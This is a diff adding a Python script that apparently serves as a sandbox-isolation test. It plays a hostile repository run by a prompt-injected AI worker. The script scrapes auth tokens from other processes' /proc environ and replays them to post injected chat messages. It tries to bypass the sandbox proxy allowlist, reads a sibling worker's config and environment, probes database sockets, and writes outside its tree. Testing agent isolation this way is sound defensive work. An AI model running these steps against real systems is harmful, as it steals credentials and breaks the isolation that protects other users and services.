@@ -1,0 +1,112 @@
+"""A hostile repository's script, as a prompt-injected worker would run it (`python3 attack.py`): it tries every
+channel out of its tree that a worker of the same OS user once had, and reports what each gave. Plain Python of
+the machine (no packages), so it runs wherever the worker's Bash runs. Its targets come from targets.json beside
+it; its report goes to attack-report.json beside it (the tree is the one place it may write).
+"""
+
+import json
+import os
+import socket
+import sys
+import urllib.request
+from pathlib import Path
+
+HERE = Path(__file__).resolve().parent
+targets = json.loads((HERE / "targets.json").read_text())
+report: dict[str, object] = {"ran": True, "pid": os.getpid()}
+
+
+def attempt(name, fn):
+    try:
+        report[name] = {"ok": True, "value": fn()}
+    except Exception as exc:  # noqa: BLE001 - every failure is an answer
+        report[name] = {"ok": False, "error": f"{type(exc).__name__}: {exc}"}
+
+
+def write_outside():
+    path = Path(targets["outside"])
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_text("pwned")
+    return str(path)
+
+
+def tcp(port):
+    def connect():
+        with socket.create_connection(("127.0.0.1", port), timeout=3):
+            return "connected"
+    return connect
+
+
+def unix(path):
+    def connect():
+        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+        s.settimeout(3)
+        try:
+            s.connect(path)
+        finally:
+            s.close()
+        return "connected"
+    return connect
+
+
+def post_chat(headers):
+    def post():
+        body = json.dumps({"text": "injected by the repository", "thread_id": targets["thread_id"]}).encode()
+        req = urllib.request.Request(f"http://127.0.0.1:{targets['ingress_port']}/api/chat", data=body,
+                                     headers={"Content-Type": "application/json", **headers}, method="POST")
+        opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
+        with opener.open(req, timeout=5) as res:
+            return res.status
+    return post
+
+
+def through_proxy():
+    # the sandbox's own proxy, asked for the ingress by a name that is not on its allowlist
+    proxy = os.environ.get("HTTP_PROXY")
+    if not proxy:
+        raise RuntimeError("no proxy in the environment")
+    opener = urllib.request.build_opener(urllib.request.ProxyHandler({"http": proxy}))
+    with opener.open(f"http://localhost.localdomain:{targets['ingress_port']}/api/info", timeout=5) as res:
+        return res.status
+
+
+def read(path):
+    return lambda: Path(path).read_text()[:4000]
+
+
+def proc_of_others():
+    mine = {os.getpid(), os.getppid()}
+    return sorted(int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) not in mine)
+
+
+def find_tokens():
+    found = set()
+    for pid in os.listdir("/proc"):
+        try:
+            for var in Path(f"/proc/{pid}/environ").read_bytes().split(b"\0"):
+                if var.startswith(b"PETAL_AUTH_TOKEN="):
+                    found.add(var.split(b"=", 1)[1].decode())
+        except OSError:
+            continue
+    return sorted(found)
+
+
+attempt("outside_write", write_outside)
+attempt("tokens", find_tokens)
+attempt("ingress_tcp", tcp(targets["ingress_port"]))
+attempt("ingress_chat_open", post_chat({}))
+for token in (report["tokens"].get("value") or []):
+    attempt("ingress_chat_token", post_chat({"Authorization": f"Bearer {token}"}))
+attempt("ingress_via_proxy", through_proxy)
+attempt("postgres_tcp", tcp(targets["pg_port"]))
+for i, path in enumerate(targets["pg_sockets"]):
+    attempt(f"postgres_unix_{i}", unix(path))
+attempt("sibling_mcp_config", read(targets["sibling_mcp_config"]))
+attempt("sibling_cmdline", read(f"/proc/{targets['sibling_pid']}/cmdline"))
+attempt("sibling_environ", read(f"/proc/{targets['sibling_pid']}/environ"))
+attempt("data_dir_listing", lambda: sorted(str(Path(d, f)) for d, _, files in os.walk(targets["data_dir"])
+                                           for f in files))
+attempt("processes", proc_of_others)
+(HERE / "attack-report.json").write_text(json.dumps(report, indent=1))
+print(json.dumps(report))
+sys.exit(0)
